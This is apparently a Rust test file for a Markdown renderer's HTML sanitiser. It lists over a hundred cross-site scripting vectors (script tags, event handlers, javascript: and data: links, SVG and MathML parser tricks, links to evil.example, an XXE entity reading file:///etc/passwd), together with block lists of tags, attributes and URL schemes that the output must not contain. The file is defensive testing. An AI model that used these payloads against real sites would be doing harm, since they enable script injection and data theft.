//! Attacks, most of them from the collections that browsers were broken with. Two readers judge what comes out: a list of substrings
//! that no output may hold as markup, and the parser of the sanitiser, which must find nothing left to take away.

use super::render::tests::{SANITISER, rendered};

#[rustfmt::skip]
const VECTORS: &[&str] = &[
    // scripts
    "<script>alert(1)</script>", "a <script>alert(1)</script> b", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<script><!--<script></script>--></script><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<title><img src=x onerror=alert(1)></title>", "<textarea></textarea><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>", "<noembed></noembed><script>alert(1)</script>",
    // events
    "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img src=\"a\" \"onerror=alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=`x` onerror=alert(1)>", "<b onmouseover=alert(1)>a</b>", "<details open ontoggle=alert(1)>a</details>",
    "<body onload=alert(1)>", "<p\u{c}onclick=alert(1)>a</p>", "<p/onclick=alert(1)>a</p>", "<a href=x onfocus=alert(1) autofocus>b</a>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>", "<div id=a onclick=alert(1)>\n\n**b**\n\n</div>", "![a](b.png\" onerror=\"alert(1))",
    "![\" onerror=\"alert(1)](b.png)", "![a](b.png '\" onerror=\"alert(1)')", "[a](b.md '\"><script>alert(1)</script>')", "## A {#a\" onclick=\"alert(1)}", "```\" onclick=alert(1)\na\n```",
    "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: a", "|a|\n|-|\n|<td onclick=alert(1)>|",
    // foreign content
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\">a</a></svg>", "<svg/onload=alert(1)>a", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><svg><style><a title=\"</style><img src onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">a</math>", "<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>a{b:url(javascript:alert(1))}",
    // addresses
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java&#115;cript:alert(1))", "[a](javascript&colon;alert(1))", "[a](java&Tab;script:alert(1))", "[a](&#1;javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)", "[a](< javascript:alert(1)>)", "[a](\\javascript:alert(1))", "[a](javascript\\:alert(1))", "[a](vbscript:msgbox(1))", "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](file:///etc/passwd)", "[a](blob:https://evil.example/1)", "[a](//evil.example)", "[a](\\\\\\\\evil.example)", "[a](/\\\\evil.example)", "[a](https:\\\\\\\\evil.example)", "<javascript:alert(1)>",
    "<data:text/html,x>", "[a]\n\n[a]: javascript:alert(1)", "[a]: <javascript:alert(1)> 'b'\n[a][]", "![a](javascript:alert(1))", "![a](https://evil.example/pixel.gif)", "![a](//evil.example/pixel.gif)",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)", "<a href=javascript:alert(1)>a</a>", "<a href=\"jav&#x0A;ascript:alert(1)\">a</a>", "<a href=' &#14; javascript:alert(1)'>a</a>",
    "<a href=\"java\nscript:alert(1)\">a</a>", "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>a</a>", "<a href=x href=javascript:alert(1)>a</a>",
    "<a\nhref\n=\n'javascript:alert(1)'>a</a>", "<img src=javascript:alert(1)>", "<img src=https://evil.example/a.png>", "<img srcset='https://evil.example/a.png 1x' src=b.png>", "<a href=a.md ping=https://evil.example>b</a>",
    "<a href=https://ok.example@evil.example>a</a>", "<q cite=javascript:alert(1)>a</q>", "<a href=a.md target=_blank rel=opener>b</a>", "<table background=javascript:alert(1)><tr><td background=//evil.example>a</table>",
    // styles and documents
    "<p style=\"background:url(javascript:alert(1))\">a</p>", "<p style=\"width:expression(alert(1))\">a</p>", "<style>@import'//evil.example';</style>", "<style>\n\n</style><img src=x onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>a</button>", "<input autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset><frame src=javascript:alert(1)></frameset>", "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>", "</main></body></html><script>alert(1)</script>", "</div></div></div></section>a", "<p id=lien-quan class='btn sample'>a</p>",
    "<table><tr><td><a href=\"</table><img src=x onerror=alert(1)>\">b</td></tr></table>", "<b><p title='</b><script>alert(1)</script>'>a", "<a href=\"a.md\n\n\"><img src=x onerror=alert(1)>", "<p title=\"a\n\n\"onclick=alert(1)>",
    "<div title=\"\n\n<script>alert(1)</script>\n\n\">", "\u{feff}<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<a\0 href=javascript:alert(1)>a</a>", "<\u{ff53}cript>alert(1)</script>",
];

/// What no output may hold outside of text: looked for with the quotes and brackets that text would have escaped.
fn assert_harmless(vector: &str) {
    let html = rendered(vector);
    let lower = html.to_ascii_lowercase();
    for tag in lower.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        for never in [
            "script", "svg", "math", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "link",
            "template", "title", "body",
        ] {
            assert_ne!(name, never, "{vector}\n{html}");
        }
        let names = attribute_names(tag);
        assert!(
            names
                .iter()
                .all(|name| !name.starts_with("on")
                    && !["style", "srcset", "ping", "autoplay", "poster"].contains(&&**name)),
            "{vector}\n{html}"
        );
    }
    for never in ["javascript:", "data:", "//", "vbscript", "file:", "blob:", "/\\", "https://ok.example@"] {
        assert!(
            !lower.contains(&format!("href=\"{never}")) && !lower.contains(&format!("src=\"{never}")),
            "{vector}\n{html}"
        );
    }
    assert!(!lower.contains("src=\"http"), "{vector}\n{html}");
    assert!(!html.contains(['\0', '\u{1}', '\u{c}', '\r']), "{vector}\n{html}");
    assert_eq!(SANITISER.clean(&html), html, "{vector}");
}

/// Of a tag whose values all stand between double quotes.
fn attribute_names(tag: &str) -> Vec<String> {
    let outside: String = tag.split('"').step_by(2).collect::<Vec<_>>().join(" ");
    outside.split_whitespace().skip(1).map(|name| name.trim_end_matches('=').to_owned()).collect()
}

#[test]
fn nothing_runs() {
    assert!(VECTORS.len() >= 100, "{}", VECTORS.len());
    for vector in VECTORS {
        assert_harmless(vector);
        // In every place where a line may stand.
        for place in [
            "> {}",
            "- {}",
            "# {}",
            "a {} b",
            "**{}**",
            "|{}|\n|-|\n|{}|",
            "[{}](a.md)",
            "![{}](a.png)",
            "a[^b]\n\n[^b]: {}",
            "<div>\n{}\n</div>",
            "<div>\n\n{}\n\n</div>",
            "<p title='{}'>",
            "<!-- {} -->",
        ] {
            assert_harmless(&place.replace("{}", vector));
        }
    }
}

#[test]
fn pairs_of_attacks_make_no_third() {
    for first in VECTORS {
        for second in VECTORS.iter().step_by(7) {
            assert_harmless(&format!("{first}\n{second}"));
            assert_harmless(&format!("{first}\n\n{second}"));
        }
    }
}

#[test]
fn pasted_from_word_comes_out_clean() {
    let word = "<!--[if gte mso 9]><xml>\n <w:WordDocument>\n  <w:View>Normal</w:View>\n </w:WordDocument>\n</xml><![endif]-->\n<style>\n<!--\n p.MsoNormal {mso-style-parent:\"\";}\n-->\n</style>\n<div class=WordSection1>\n<p class=MsoNormal align=center style='text-align:center;mso-x:y'><b style='mso-bidi-font-weight:normal'><span lang=EN-US style='font-size:14.0pt'>KẾ HOẠCH<o:p></o:p></span></b></p>\n<p class=MsoNormal><![if !supportLists]><span style='mso-list:Ignore'>-<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp; </span></span><![endif]><font face=\".VnTime\">H&agrave; N&#7897;i</font></p>\n<table class=MsoTableGrid border=1><tr style='mso-yfti-irow:0'><td width=200 valign=top style='border:none'><p class=MsoNormal align=right style='text-align:right'>1</p></td><td align=right>2</td></tr></table>\n</div>\n";
    assert_eq!(
        rendered(word),
        "\n\n<div>\n<p><b>KẾ HOẠCH</b></p>\n<p>-\u{a0}\u{a0} Hà Nội</p>\n<div class=\"scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Bảng 1\"><table><tbody><tr><td><p>1</p></td><td class=\"r\">2</td></tr></tbody></table></div>\n</div>\n"
    );
}

#[test]
fn raw_html_that_is_welcome_stays() {
    let welcome = "<details open><summary>Xem thêm</summary>\n\n**a**\n\n</details>\n\nH<sub>2</sub>O <mark>b</mark> <abbr title=\"Hội đồng nhân dân\">HĐND</abbr>\n\n<figure><img src=\"anh.jpg\" alt=\"c\"><figcaption>d <a href=\"a.md\">e</a></figcaption></figure>\n";
    assert_eq!(
        rendered(welcome),
        "<details open=\"\"><summary>Xem thêm</summary>\n<p><strong>a</strong></p>\n</details>\n<p>H<sub>2</sub>O <mark>b</mark> <abbr title=\"Hội đồng nhân dân\">HĐND</abbr></p>\n<figure><img src=\"anh.jpg\" alt=\"c\" width=\"640\" height=\"320\" loading=\"lazy\" decoding=\"async\"><figcaption>d <a href=\"../a.html\">e</a></figcaption></figure>\n"
    );
    assert_eq!(
        rendered("<table>\n<tr>\n<td>\n\n- a\n\n</td></tr></table>\n\nb"),
        "<div class=\"scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Bảng 1\"><table><tbody><tr><td>\n<ul>\n<li>a</li>\n</ul>\n</td></tr></tbody></table></div>\n<p>b</p>\n"
    );
    assert_eq!(
        rendered("<table><tr><td>\n\na</td></tr></table>\n\nb"),
        "<div class=\"scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Bảng 1\"><table><tbody><tr><td>\n<p>a</p>\n</td></tr></tbody></table></div>\n<p>b</p>\n"
    );
    assert_eq!(rendered("<ul><li>a<li>b</ul><p>c<p>d"), "<ul><li>a</li><li>b</li></ul><p>c</p><p>d</p>");
    assert_eq!(rendered("a<!-- b -->c"), "<p>ac</p>\n");
    assert_eq!(rendered("<a name=\"muc\"></a>d"), "<p><span id=\"muc\"></span>d</p>\n");
}
